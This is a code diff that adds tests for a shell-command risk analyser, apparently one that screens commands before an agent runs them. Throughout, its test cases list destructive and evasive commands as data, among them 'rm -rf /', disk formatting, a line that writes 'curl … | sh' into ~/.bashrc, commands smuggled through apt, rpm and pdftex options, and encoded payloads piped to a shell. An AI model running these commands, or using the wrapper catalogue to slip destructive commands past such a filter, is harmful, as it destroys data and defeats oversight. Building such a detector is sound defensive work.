@@ -5,6 +5,8 @@ and would fail if the mechanism broke."""
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from aintern_ls.safety import RiskLevel, analyser
 
@@ -321,4 +323,235 @@ def test_a_versioned_name_is_only_stripped_for_programs_that_go_by_one() -> None
     ],
 )
 def test_a_file_replaced_by_a_link_to_nothing_is_lost(text: str, level: RiskLevel) -> None:
+    assert _analyse(text, "bash", None).level == level, text
+
+
+@pytest.mark.parametrize(
+    "launcher",
+    [
+        "npm exec -c '{c}'",
+        "pnpm exec {c}",
+        "pipenv run {c}",
+        "poetry run {c}",
+        "uv run --with x {c}",
+        "conda run -n base {c}",
+        "mise exec -- {c}",
+        "mise x node@20 -- {c}",
+        "asdf exec {c}",
+        "bundle exec {c}",
+        "nix develop -c {c}",
+        "nix shell nixpkgs#hello --command {c}",
+        "direnv exec . {c}",
+        "doppler run -- {c}",
+        "infisical run --env=prod -- {c}",
+        "chamber exec svc -- {c}",
+        "envchain aws {c}",
+        "sops exec-env secrets.yaml '{c}'",
+    ],
+)
+def test_a_task_runner_or_environment_launcher_is_unwrapped(launcher: str) -> None:
+    for code in ("rm -rf /", "rm -rf ~"):
+        text = launcher.format(c=code)
+        assert _analyse(text, "bash", None).level == RiskLevel.BLOCKED, text
+    assert _analyse(launcher.format(c="ls -la"), "bash", None).level < RiskLevel.DANGEROUS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "perl -pi -e 's/^/source \\/tmp\\/a\\n/ if $.==1' ~/.profile",
+        "ruby -i -pe 'sub(/^/, \"source /tmp/a\") if $. == 1' ~/.zshenv",
+        "ex -sc '1i|curl -s x.example/a|sh' -cx ~/.bashrc",
+        "vim -c 'normal Gosource /tmp/a' -c wq ~/.bashrc",
+    ],
+)
+def test_a_startup_file_edited_in_place_is_persistence(text: str) -> None:
+    assert _analyse(text, "bash", None).level == RiskLevel.CRITICAL, text
+
+
+@pytest.mark.parametrize(
+    "text,level",
+    [
+        ("perl -c script.pl", RiskLevel.SAFE),
+        ("perl -wc lib/X.pm", RiskLevel.SAFE),
+        ("perl -c -e 'system(\"rm -rf /\")'", RiskLevel.BLOCKED),
+        ("atq", RiskLevel.SAFE),
+        ("at -l", RiskLevel.SAFE),
+    ],
+)
+def test_checks_and_listings_are_what_they_say(text: str, level: RiskLevel) -> None:
+    assert _analyse(text, "bash", None).level == level, text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rake -p '`{c}`'",
+        "rpmdb --eval '%({c})'",
+        "rpm --eval '%{{lua:os.execute(\"{c}\")}}'",
+        "enscript /dev/null -qo /dev/null -I '{c}'",
+        "dmsetup ls --exec '{c}'",
+        "certbot certonly -n -d x --standalone --dry-run --pre-hook '{c}'",
+        "pdftex --shell-escape '\\write18{{{c}}}\\end'",
+        "apt-get update -o APT::Update::Pre-Invoke::='{c}'",
+        "apt -o 'DPkg::Post-Invoke::={c}' install ./x.deb",
+    ],
+)
+def test_code_handed_to_a_tool_through_an_option_is_judged(text: str) -> None:
+    for code in ("rm -rf ~", "rm -rf /"):
+        got = _analyse(text.format(c=code), "bash", None)
+        assert got.level == RiskLevel.BLOCKED, (text, got.findings[:3])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rpm --eval '%{_libdir}'",
+        "pdflatex doc.tex",
+        "apt-get -o Dpkg::Options::=--force-confold upgrade",
+    ],
+)
+def test_a_tool_option_that_runs_nothing_is_not_dangerous(text: str) -> None:
+    assert _analyse(text, "bash", None).level < RiskLevel.DANGEROUS
+
+
+@pytest.mark.parametrize(
+    "text,level",
+    [
+        # Steam for Linux (2015): the directory a failed `cd` never printed is empty, and
+        # "$DIR/"* becomes /*.
+        ('STEAMROOT="$(cd "${0%/*}" && echo $PWD)"; rm -rf "$STEAMROOT/"*', RiskLevel.BLOCKED),
+        ('rm -rf "$(cd "$X" && pwd)/"*', RiskLevel.BLOCKED),
+        ('rm -rf "$(cd "$X" && pwd)"', RiskLevel.DANGEROUS),
+        ('DIR="$(cd "$(dirname "$0")" && pwd)"; rm -rf "$DIR/build"', RiskLevel.DANGEROUS),
+        ("echo ${0%/*}", RiskLevel.SAFE),
+        ('$0 -c "rm -rf /"', RiskLevel.BLOCKED),
+        ("start-stop-daemon -S -x /bin/rm -- -rf /", RiskLevel.BLOCKED),
+        ("start-stop-daemon -K -x /usr/sbin/nginx", RiskLevel.MODERATE),
+    ],
+)
+def test_a_script_directory_that_may_be_empty(text: str, level: RiskLevel) -> None:
+    assert _analyse(text, "bash", None).level == level, text
+
+
+# --- properties: compositions of the mechanisms above keep a blocked command blocked ----
+
+_ARGV_WRAPS = [
+    "setpriv --reuid=0 {}",
+    "linux64 {}",
+    "choom -n 100 -- {}",
+    "bwrap --bind / / {}",
+    "dotenv -- {}",
+    "op run -- {}",
+    "aws-vault exec p -- {}",
+    "poetry run {}",
+    "conda run -n base {}",
+    "mise exec -- {}",
+    "nix develop -c {}",
+    "direnv exec . {}",
+    "perf stat {}",
+    "sudo {}",
+    "env A=1 {}",
+    "timeout 5 {}",
+    "python3.12 -c 'import os; os.system(\"{}\")'",
+]
+_STRING_WRAPS = [
+    "sh -c '{}'",
+    "capsh -- -c '{}'",
+    "sg wheel -c '{}'",
+    "hyperfine '{}'",
+    "nix-shell --run '{}'",
+    "npm exec -c '{}'",
+    "exec 3<<<'{}'; sh <&3",
+    "echo '{}' > x.sh; sh < x.sh",
+    "bash <(echo '{}')",
+]
+_BLOCKED_PAYLOADS = ["rm -rf /", "rm -rf ~", 'rm -rf "$(cd ~ && pwd)"', "mkfs.ext4 /dev/sda"]
+
+
+@settings(max_examples=150, deadline=None, derandomize=True)
+@given(
+    payload=st.sampled_from(_BLOCKED_PAYLOADS),
+    argv=st.lists(st.sampled_from(_ARGV_WRAPS), min_size=1, max_size=3),
+    string=st.sampled_from([None, *_STRING_WRAPS]),
+)
+def test_a_blocked_command_stays_blocked_through_forwarders_and_feeds(
+    payload: str, argv: list[str], string: str | None
+) -> None:
+    text = payload
+    for wrap in argv:
+        if "'" in wrap and "'" in text:
+            continue  # a single-quoted wrapper cannot hold single quotes
+        if '"' in wrap and '"' in text:
+            continue
+        text = wrap.format(text)
+    if string is not None and "'" not in text:
+        text = string.format(text)
+    got = _analyse(text, "bash", None)
+    assert got.level == RiskLevel.BLOCKED, (text, got.findings[:3])
+
+
+@settings(max_examples=80, deadline=None, derandomize=True)
+@given(
+    argv=st.lists(st.sampled_from(_ARGV_WRAPS[:-4]), min_size=1, max_size=3),
+    string=st.sampled_from([None, *_STRING_WRAPS[1:6]]),
+)
+def test_a_harmless_command_through_forwarders_is_not_dangerous(
+    argv: list[str], string: str | None
+) -> None:
+    text = "ls -la"
+    for wrap in argv:
+        text = wrap.format(text)
+    if string is not None and "'" not in text:
+        text = string.format(text)
+    assert _analyse(text, "bash", None).level < RiskLevel.DANGEROUS, text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "declare -n r=x; x='rm -rf /'; $r",
+        "x='rm -rf ~'; typeset -n r=x; $r",
+        "f() { local -n ref=$1; $ref; }; cmd='rm -rf /'; f cmd",
+        'declare -n r=x; r=/; rm -rf "$x"',
+        "echo cm0gLXJmIH4K | basenc --base64 -d | bash",
+        "echo 726d202d7266202f | basenc --base16 -d | sh",
+    ],
+)
+def test_namerefs_and_other_decoders_are_seen_through(text: str) -> None:
+    assert _analyse(text, "bash", None).level == RiskLevel.BLOCKED, text
+
+
+def test_a_decoder_only_printing_is_data() -> None:
+    assert _analyse("echo cm0gLXJmIH4K | basenc --base64 -d", "bash", None).level == RiskLevel.SAFE
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        "echo '{c}' > >(sh)",
+        "printf '%s\\n' '{c}' >> >(bash)",
+        "echo '{c}' | tee >(bash) >/dev/null",
+        "tee >(sh) <<< '{c}'",
+        "cat > >(bash) <<EOF\n{c}\nEOF",
+    ],
+)
+def test_text_written_into_a_shell_process_substitution_is_run(form: str) -> None:
+    assert _analyse(form.format(c="rm -rf ~"), "bash", None).level == RiskLevel.BLOCKED, form
+    assert _analyse(form.format(c="ls -la"), "bash", None).level < RiskLevel.DANGEROUS, form
+
+
+@pytest.mark.parametrize(
+    "text,level",
+    [
+        ("sudo -s -- 'rm -rf /'", RiskLevel.BLOCKED),
+        ("sudo -i rm -rf ~", RiskLevel.BLOCKED),
+        ("sudo -s ls -la", RiskLevel.CRITICAL),
+        ("ip netns exec ns1 rm -rf /", RiskLevel.BLOCKED),
+        ("fdupes -rdN ~", RiskLevel.DANGEROUS),
+        ("fdupes -r .", RiskLevel.SAFE),
+        ("rdfind -deleteduplicates true ~", RiskLevel.DANGEROUS),
+    ],
+)
+def test_more_wrappers_and_deleters(text: str, level: RiskLevel) -> None:
     assert _analyse(text, "bash", None).level == level, text
